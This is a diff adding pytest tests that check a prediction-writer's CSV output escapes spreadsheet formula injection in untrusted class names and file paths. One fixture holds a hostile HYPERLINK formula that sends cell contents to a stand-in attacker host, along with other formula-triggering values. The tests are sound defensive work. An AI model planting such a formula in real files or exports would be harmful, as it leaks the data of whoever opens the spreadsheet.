@@ -13,7 +13,7 @@ import pytest
 from symnets_deploy.enums import OutputFormat
 from symnets_deploy.errors import UsageError
 from symnets_deploy.predictor import FIELDS, Prediction
-from symnets_deploy.writers import resolve_format, write_predictions
+from symnets_deploy.writers import csv_row, resolve_format, write_predictions
 
 ROWS = [
     Prediction("a/1.jpg", "mug", 3, 0.8123456789, ("mug", "cup, tall"), (0.8123456789, 0.1)),
@@ -93,3 +93,37 @@ def test_output_file_gets_umask_permissions_and_a_folder_is_refused(tmp_path: Pa
     assert out.stat().st_mode & 0o777 == 0o666 & ~umask
     with pytest.raises(UsageError, match="folder"):
         write_predictions(ROWS, tmp_path, OutputFormat.csv)
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
+    # Issue 18 item 14: class names come from a model card and paths from the file system, both
+    # untrusted; a cell starting with = + - @ (or tab, CR) is a formula in Excel / LibreOffice.
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    rows = [
+        Prediction("@list/-1.jpg", hostile, 0, 0.9, (hostile, "+cmd", "-2", "safe"), (0.9, 0.05, 0.03, 0.02)),
+        Prediction.failed("\tx.jpg", "-1.jpg: cannot decode"),
+        Prediction("\r.jpg", "ok", 1, 0.5, ("ok",), (0.5,)),
+        # A CR inside a cell is quoted, not a row break (csv.writer missed it with an LF terminator).
+        Prediction("a/\rb.jpg", "ok", 1, 0.5, ("ok",), (0.5,)),
+    ]
+    out = tmp_path / "preds.csv"
+    write_predictions(rows, out)
+    assert out.read_bytes().count(b"\n") == 5 and b"\r\n" not in out.read_bytes()
+    with out.open(newline="", encoding="utf-8") as f:
+        first, failed, third, fourth = list(csv.DictReader(f))
+    assert first["label"] == "'" + hostile and first["path"] == "'@list/-1.jpg"
+    # Numbers stay numbers; a JSON array cell starts with '[' and keeps the names exactly.
+    assert (first["index"], first["confidence"]) == ("0", "0.9")
+    assert json.loads(first["topk_labels"]) == [hostile, "+cmd", "-2", "safe"]
+    assert failed["path"] == "'\tx.jpg" and failed["error"] == "'-1.jpg: cannot decode" and failed["label"] == ""
+    assert third["path"] == "'\r.jpg" and fourth["path"] == "a/\rb.jpg" and fourth["label"] == "ok"
+    # JSON Lines is data for programs, not spreadsheets: unchanged.
+    jsonl = tmp_path / "preds.jsonl"
+    write_predictions(rows, jsonl)
+    record = json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])
+    assert record["label"] == hostile and record["path"] == "@list/-1.jpg"
+
+
+def test_csv_leaves_negative_numbers_unquoted() -> None:
+    # A number is written by us, not taken from a file: "-0.5" must stay a number in a spreadsheet.
+    assert csv_row(Prediction("a.jpg", "mug", 0, -0.5, ("mug",), (-0.5,)))[:6] == ["a.jpg", "mug", "0", "-0.5", '["mug"]', "[-0.5]"]
